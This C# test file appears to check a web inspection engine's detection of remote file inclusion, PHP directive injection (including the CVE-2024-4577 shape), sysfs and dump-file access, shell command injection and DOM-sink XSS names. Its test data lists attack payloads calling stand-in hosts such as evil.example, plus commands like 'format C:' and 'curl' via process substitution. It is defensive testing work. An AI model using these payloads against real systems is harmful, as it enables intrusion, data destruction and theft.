using Analytics.Inspection;
using Microsoft.AspNetCore.Http;

namespace Analytics.Sidecar.Tests.Inspection;

/// <summary>
/// Issue 13's ninth pass, the misses left in RFI, PHP directives, restricted files, shell and DOM sinks
/// (931, 933120, 930130, 932, 941180): each technique in several places, with the look-alikes real APIs carry.
/// </summary>
public sealed class CrsGapMiscTests
{
    private static readonly InspectionEngine Engine = new(new InspectionOptions { ModelPath = null }, model: null);

    // ---- 931: an off-site URL given to a PHP application's include directory (register_globals overwrite) ----

    [Theory]
    [InlineData("_CONF[path]", "https://attacker.example/")]
    [InlineData("_SERVER[DOCUMENT_ROOT]", "http://203.0.113.9/shell")]
    [InlineData("GLOBALS[includeDir]", "ftp://files.attacker.example/x")]
    [InlineData("_PHPLIB[libdir]", "https://evil.example/inc/")]
    [InlineData("mosConfig_absolute_path", "http://evil.example")]
    [InlineData("phpbb_root_path", "https://evil.example/forum/")]
    [InlineData("GALLERY_BASEDIR", "http://evil.example/")]
    [InlineData("path[docroot]", "https://evil.example")]
    [InlineData("config[root_dir]", "ftps://evil.example/")]
    [InlineData("appserv_root", "http://evil.example/")]
    public void Url_in_an_include_directory_parameter_blocks(string name, string url)
    {
        var encodedName = Uri.EscapeDataString(name);
        var encodedUrl = Uri.EscapeDataString(url);
        foreach (var verdict in new[]
        {
            Inspect.Query(encodedName + "=" + encodedUrl, "/modules/gallery/init.php"),
            Inspect.Body(encodedName + "=" + encodedUrl, "application/x-www-form-urlencoded"),
            Inspect.Json("{" + System.Text.Json.JsonSerializer.Serialize(name) + ":" + System.Text.Json.JsonSerializer.Serialize(url) + "}"),
            Inspect.Headers(new HeaderDictionary { ["Cookie"] = encodedName + "=" + encodedUrl }),
        })
        {
            Assert.True(verdict.Rules.Contains("rfi-include-parameter") && verdict.Blocks(), $"{name}={url}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
        }
    }

    [Theory]
    [InlineData("image_path", "https://cdn.example.com/img/cat.png")]
    [InlineData("site_root", "https://www.example.com/")]
    [InlineData("api_root", "https://api.example.com/v2")]
    [InlineData("callback_url", "https://hooks.example.com/ingest")]
    [InlineData("redirect_uri", "https://app.example.com/oauth/callback")]
    [InlineData("filter[homepage]", "https://example.org")]
    [InlineData("_links[self]", "https://api.example.com/orders/1")]
    [InlineData("basedir_note", "https://docs.example.com/basedir")]
    [InlineData("absolute_path", "uploads/2024/photo.jpg")]
    [InlineData("docroot", "public_html")]
    public void Url_or_path_in_an_ordinary_parameter_is_allowed(string name, string value)
    {
        var verdict = Inspect.Query(Uri.EscapeDataString(name) + "=" + Uri.EscapeDataString(value));
        Assert.False(verdict.Rules.Contains("rfi-include-parameter") || verdict.Blocks(), $"{name}={value}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
    }

    [Theory]
    [InlineData("https://?")]
    [InlineData("http:?")]
    [InlineData("FILE://??")]
    [InlineData("ftp:/?")]
    public void Scheme_cut_off_with_a_question_mark_blocks(string payload) =>
        Inspect.AssertBlockedIn(payload, "rfi-trailing-question-mark", "query-value", "json-value", "cookie-value", "form-value");

    [Theory]
    [InlineData("file?")]
    [InlineData("https?")]
    [InlineData("FTPS??")]
    public void Bare_scheme_word_and_question_mark_counts_from_paranoia_level_two(string payload)
    {
        var input = Query("q=" + Uri.EscapeDataString(payload));
        Assert.False(Inspect.Run(input).Blocks(), payload);
        Assert.Contains("rfi-scheme-probe", AtLevel2(input).Rules);
    }

    [Theory]
    [InlineData("http? or https?")]
    [InlineData("Which file?")]
    [InlineData("profile?")]
    [InlineData("httpd?")]
    [InlineData("Is it http or https?")]
    public void Question_about_a_scheme_is_allowed(string value)
    {
        var input = Query("q=" + Uri.EscapeDataString(value));
        Assert.DoesNotContain("rfi-scheme-probe", AtLevel2(input).Rules);
        Assert.False(Inspect.Run(input).Blocks(), value);
    }

    // ---- 933120: dangerous PHP directives set by -d arguments or as the whole value ----

    [Theory]
    [InlineData("allow_url_include=1")]
    [InlineData("auto_prepend_file = php://input")]
    [InlineData("-d allow_url_include=on -d auto_prepend_file=php://input")]
    [InlineData("-dauto_append_file=/tmp/x.php")]
    [InlineData("\u00ADd disable_functions=")]
    [InlineData("open_basedir=/")]
    [InlineData("sendmail_path=/tmp/run.sh")]
    [InlineData("cgi.force_redirect=0")]
    public void Dangerous_php_directive_blocks(string payload) =>
        Inspect.AssertBlockedIn(payload, "php-directive-injection", "query-value", "query-name", "json-value", "form-value", "cookie-value", "header");

    [Fact]
    public void Php_cgi_argument_injection_in_a_bare_query_blocks()
    {
        // CVE-2024-4577's shape: no '=' the server splits on, the whole query is argv.
        var verdict = Inspect.Query("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "/index.php");
        Assert.True(verdict.Rules.Contains("php-directive-injection") && verdict.Blocks(), $"{verdict.Score} ({string.Join(", ", verdict.Rules)})");
    }

    [Theory]
    [InlineData("Set allow_url_fopen = On in the hosting panel and restart")]
    [InlineData("allow_url_fopen = On\nallow_url_include = Off")]
    [InlineData("Why is open_basedir=/var/www ignored by my host?")]
    [InlineData("safe_mode=1")]
    [InlineData("extension=intl")]
    [InlineData("precision=14")]
    [InlineData("disable_functions")]
    [InlineData("allow_url_include==1")]
    [InlineData("Try php -d allow_url_fopen=On fetch.php on your machine")]
    [InlineData("Run: php -dauto_prepend_file=bootstrap.php tests/")]
    public void Php_directive_in_prose_or_a_snippet_is_allowed_at_level_one(string value)
    {
        var verdict = Inspect.Json("{\"body\":" + System.Text.Json.JsonSerializer.Serialize(value) + "}");
        Assert.False(verdict.Rules.Contains("php-directive-injection") || verdict.Blocks(), $"{value}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
    }

    // ---- 930130: sysfs, packed dumps and Vite's dev-server module route ----

    [Theory]
    [InlineData("/files/sys/class")]
    [InlineData("/download/..%2f..%2fsys/class/net/eth0/address")]
    [InlineData("/view/sys/kernel/")]
    [InlineData("/read/sys/devices/virtual/dmi/id/product_uuid")]
    public void Sysfs_directory_in_the_path_blocks(string path)
    {
        var verdict = Inspect.Path(path);
        Assert.True(verdict.Rules.Contains("lfi-sensitive-file") && verdict.Blocks(), $"{path}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
    }

    [Theory]
    [InlineData("/sys/firmware/efi/efivars")]
    [InlineData("../../sys/class/net/eth0/address")]
    [InlineData("/sys/module/kvm/parameters")]
    public void Sysfs_directory_in_a_value_blocks(string payload) =>
        Inspect.AssertBlockedIn(payload, "lfi-sensitive-file", "query-value", "json-value", "header", "cookie-value");

    [Theory]
    [InlineData("/backup.sql.zip")]
    [InlineData("/exports/db_2024.sql.gz")]
    [InlineData("/site.bak.tar.gz")]
    [InlineData("/data/users.sqlite.7z")]
    [InlineData("/@id/__x00__virtual:module?import")]
    public void Packed_dump_or_dev_server_route_blocks(string path)
    {
        var verdict = Inspect.Path(path);
        Assert.True(verdict.Rules.Contains("file-restricted-extension") && verdict.Blocks(), $"{path}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
    }

    [Theory]
    [InlineData("/downloads/report.pdf.zip")]
    [InlineData("/releases/app-1.2.tar.gz")]
    [InlineData("/photos/holiday.tar.gz")]
    [InlineData("/api/sys/classes")]
    [InlineData("/analysis/classification")]
    [InlineData("/api/systems/kernel")]
    [InlineData("/@idris/posts/42")]
    [InlineData("/docs/sql.zip-format")]
    public void Ordinary_download_or_route_is_allowed(string path)
    {
        var verdict = Inspect.Path(path);
        Assert.False(verdict.Blocks(), $"{path}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
    }

    // ---- 932: glued cmd.exe switches, wrappers, a drive to format, process substitution ----

    [Theory]
    [InlineData("x; format C:")]
    [InlineData("1|format d: /q")]
    [InlineData("a&sort/r secrets.txt")]
    [InlineData("x&&dir/s passwords")]
    [InlineData("time tracert")]
    [InlineData("nohup wget -q evil.example/x")]
    [InlineData("strace whoami")]
    [InlineData("cat <(id)")]
    [InlineData("diff >(curl evil.example) x")]
    [InlineData("<(whoami)")]
    public void Shell_shape_blocks(string payload) =>
        Inspect.AssertBlockedIn(payload, null, "query-value", "json-value", "form-value", "cookie-value", "header");

    [Fact]
    public void Process_substitution_as_a_cookie_name_blocks()
    {
        var verdict = Inspect.Headers(new HeaderDictionary { ["Cookie"] = Uri.EscapeDataString(">(whoami)") + "=1" });
        Assert.True(verdict.Blocks(), $"{verdict.Score} ({string.Join(", ", verdict.Rules)})");
    }

    [Theory]
    [InlineData("Coffee; w/o sugar")]
    [InlineData("Rock & Roll; time/date shown in UTC")]
    [InlineData("time flies")]
    [InlineData("time cat videos")]
    [InlineData("nice ping pong table")]
    [InlineData("Choose a date format: YYYY-MM-DD")]
    [InlineData("tests; format the drive first")]
    [InlineData("if x<(y+1) then")]
    [InlineData("I'm upset >(")]
    [InlineData("sort/filter options")]
    [InlineData("a & b/c testing")]
    public void Shell_lookalike_is_allowed(string value)
    {
        var verdict = Inspect.Param(value);
        Assert.False(verdict.Blocks(), $"{value}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
    }

    // ---- 941180: a DOM sink named alone ----

    [Theory]
    [InlineData("document.cookie")]
    [InlineData("window.location")]
    [InlineData("top.location.href")]
    [InlineData("document.domain")]
    public void Dom_sink_as_a_name_blocks(string name)
    {
        foreach (var verdict in new[]
        {
            Inspect.Query(name + "=1"),
            Inspect.Body(name + "=x", "application/x-www-form-urlencoded"),
            Inspect.Headers(new HeaderDictionary { ["Cookie"] = name + "=1" }),
            Inspect.Json("{\"a\":{" + System.Text.Json.JsonSerializer.Serialize(name) + ":1}}"),
        })
        {
            Assert.True(verdict.Rules.Contains("xss-dom-sink-name") && verdict.Blocks(), $"{name}: {verdict.Score} ({string.Join(", ", verdict.Rules)})");
        }
    }

    [Theory]
    [InlineData("document.cookie")]
    [InlineData("window.location.href;")]
    public void Dom_sink_as_the_whole_value_counts_from_paranoia_level_two(string value)
    {
        var input = Query("q=" + Uri.EscapeDataString(value));
        Assert.False(Inspect.Run(input).Blocks(), value);
        Assert.Contains("xss-dom-sink-value", AtLevel2(input).Rules);
    }

    [Theory]
    [InlineData("q", "How do I read document.cookie in Safari?")]
    [InlineData("q", "document.cookies")]
    [InlineData("q", "window.locations.json")]
    [InlineData("document", "cookie")]
    [InlineData("location.city", "Berlin")]
    [InlineData("window.width", "1024")]
    public void Dom_sink_lookalike_is_allowed(string name, string value)
    {
        var input = Query(Uri.EscapeDataString(name) + "=" + Uri.EscapeDataString(value));
        Assert.False(AtLevel2(input).Blocks(), $"{name}={value}");
    }

    private static InspectionInput Query(string rawQuery) =>
        new("GET", "/search", rawQuery, new HeaderDictionary(), ReadOnlyMemory<byte>.Empty, null, false);

    private static InspectionVerdict AtLevel2(InspectionInput input)
    {
        var findings = new FindingSet();
        findings.Reset(null, 2);
        return Engine.Inspect(input, findings, useModel: false);
    }
}
